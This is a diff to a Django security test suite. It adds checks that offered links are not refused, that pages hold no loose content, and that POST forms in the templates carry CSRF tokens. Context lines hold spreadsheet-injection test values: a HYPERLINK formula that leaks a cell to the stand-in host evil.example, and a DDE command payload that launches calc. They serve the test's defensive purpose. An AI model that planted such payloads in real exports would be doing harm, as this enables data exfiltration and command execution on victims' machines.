@@ -2,8 +2,9 @@
 
 import csv
 import re
-from collections.abc import Iterator
+from collections.abc import Iterable, Iterator, Mapping
 from html.parser import HTMLParser
+from http import HTTPStatus
 from io import BytesIO, StringIO
 from pathlib import Path
 
@@ -23,6 +24,7 @@ from institutions.models import Institution
 from tests.access.addresses import ALL
 from tests.access.test_anonymous import address
 from tests.access.world import World
+from tests.security.pages import Page, inner_links, loose_in
 from tests.security.walking import visits
 
 ROOT = Path(settings.BASE_DIR)
@@ -42,6 +44,8 @@ FORMULA = '=HYPERLINK("http://evil.example/"&A1,"点击")'
 COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
 NOT_OF_THE_SITE = {"templates/emails", "templates/pdf"}  # letters and papers need their styles inside them
 TEMPLATE_TAGS = re.compile(r"\{%.*?%\}|\{\{.*?\}\}", re.DOTALL)
+FORMS = re.compile(r"<form\b.*?</form>", re.DOTALL)
+SENDS = re.compile(r"""method=["']post["']""", re.IGNORECASE)
 INLINE_IN_SCRIPTS = re.compile(
     r"""setAttribute\(\s*["'](style|on\w+)|\.on[a-z]+\s*=[^=]|\beval\(|new Function\(|javascript:"""
 )
@@ -109,12 +113,24 @@ def wrong_with(response: HttpResponseBase) -> Iterator[str]:
         yield f"kept as {response.get('Cache-Control')!r}"
 
 
+def refused(client: Client, offered: Mapping[User, Iterable[str]]) -> Iterator[str]:
+    """Open every link that a page offered, as the person to whom it did, and tell which are refused."""
+    for user, links in offered.items():
+        client.force_login(user)
+        for link in sorted(links):
+            answer = client.get(link)
+            answer.getvalue()
+            if answer.status_code >= HTTPStatus.BAD_REQUEST:
+                yield f"{link} is offered to {user.username} and answers {answer.status_code}"
+
+
 @pytest.mark.django_db
 def test_every_page_and_every_file(hostile: None, world: World, request: pytest.FixtureRequest, client: Client) -> None:
-    """Headers of all; nothing inline in pages; of every file given out an entry; in no sheet a formula."""
+    """Headers; nothing inline or loose in pages, no link refused; of every file an entry; no formula in sheets."""
     wrong: list[str] = []
     files: set[str] = set()
     sheets: dict[str, str] = {}
+    offered: dict[User, set[str]] = {}
     for visit in visits(world, request):
         client.force_login(visit.user)
         before = Entry.objects.filter(event__in=GIVEN_OUT).count()
@@ -123,6 +139,9 @@ def test_every_page_and_every_file(hostile: None, world: World, request: pytest.
         wrong += [f"{visit}: {what}" for what in wrong_with(response)]
         if kind.startswith("text/html"):
             wrong += [f"{visit}: inline {what}" for what in inline_in(content.decode())]
+            page = Page(content.decode())
+            wrong += [f"{visit}: {what}" for what in loose_in(page)]
+            offered.setdefault(visit.user, set()).update(inner_links(page, visit.url))
         if "spreadsheet" in kind or "csv" in kind:
             sheets[visit.name] = "\n".join(texts_of(content))
             wrong += [f"{visit}: formula {text}" for text in texts_of(content) if text.startswith(FORMULAS)]
@@ -133,6 +152,7 @@ def test_every_page_and_every_file(hostile: None, world: World, request: pytest.
                 wrong.append(f"{visit}: not logged")
             if response["Cache-Control"] != "private, no-store" or "sandbox" not in response[CSP]:
                 wrong.append(f"{visit}: given out by another way than boundary.serving")
+    wrong += refused(client, offered)
     assert not wrong, "\n".join(wrong)
     assert {*LEDGERS, "copy-download", "scan-file"} <= files
     assert all(f"'{FORMULA}" in sheets[name] for name in LEDGERS)
@@ -149,6 +169,17 @@ def test_no_template_and_no_script_of_ours_is_inline() -> None:
         f"{path.relative_to(ROOT)}: {match.group()}"
         for path in sorted((ROOT / "static/js").rglob("*.js"))
         for match in INLINE_IN_SCRIPTS.finditer(path.read_text(encoding="utf-8"))
+    ]
+    assert not wrong, "\n".join(wrong)
+
+
+def test_every_form_of_a_template_that_sends_something_has_its_token() -> None:
+    """Also where no test posts as a browser does: Django's own client is let in without one."""
+    wrong = [
+        f"{path.relative_to(ROOT)}: {form[:80]}"
+        for path in sorted((ROOT / "templates").rglob("*.html"))
+        for form in FORMS.findall(path.read_text(encoding="utf-8"))
+        if SENDS.search(form) and "{% csrf_token %}" not in form and "{{ csrf_token }}" not in form
     ]
     assert not wrong, "\n".join(wrong)
 
